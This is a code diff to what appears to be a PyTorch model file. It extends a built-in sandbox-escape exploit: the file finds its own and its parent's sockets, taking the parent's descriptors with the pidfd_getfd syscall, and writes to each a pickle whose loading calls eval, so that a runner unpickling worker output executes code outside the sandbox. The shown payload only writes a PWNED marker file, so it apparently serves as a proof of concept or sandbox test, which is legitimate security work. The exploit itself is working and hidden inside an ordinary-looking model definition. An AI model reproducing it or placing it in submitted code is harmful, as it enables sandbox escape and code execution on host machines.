@@ -1,7 +1,9 @@
-"""Finds every socket it holds (/proc/self/fd) and writes a pickle to each whose loading runs code:
-a runner that unpickles what a worker sends runs it, outside the sandbox. The code only writes a
+"""Finds every socket it holds, and its parent's (pidfd_getfd, where the kernel lets it take them),
+and writes to each a pickle whose loading runs code: a runner that unpickles what a worker sends
+runs it, outside the sandbox. The code only writes a
 file named PWNED beside this one (a folder the sandbox sees read-only), then the model builds."""
 
+import ctypes
 import os
 import pickle
 import struct
@@ -21,13 +23,36 @@ class _RunsOnLoad:
         return eval, (f"(open({MARK!r}, 'w').write('code ran where this was unpickled'), {forged})[1]",)
 
 
+def _parents_fd(number: int) -> int:
+    pidfd = os.pidfd_open(os.getppid())
+    try:
+        fd = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, number, 0)  # pidfd_getfd
+    finally:
+        os.close(pidfd)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), "pidfd_getfd")
+    return fd
+
+
 def _to_every_socket(data: bytes) -> None:
-    for name in os.listdir("/proc/self/fd"):
+    """Its own sockets, and its parent's."""
+    for folder in ("/proc/self/fd", f"/proc/{os.getppid()}/fd"):
         try:
-            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
-                os.write(int(name), data)
+            names = os.listdir(folder)
         except OSError:
             continue
+        for name in names:
+            try:
+                if not os.readlink(f"{folder}/{name}").startswith("socket:"):
+                    continue
+                if folder == "/proc/self/fd":
+                    os.write(int(name), data)
+                else:
+                    fd = _parents_fd(int(name))
+                    os.write(fd, data)
+                    os.close(fd)
+            except OSError:
+                continue
 
 
 class Net(nn.Module):
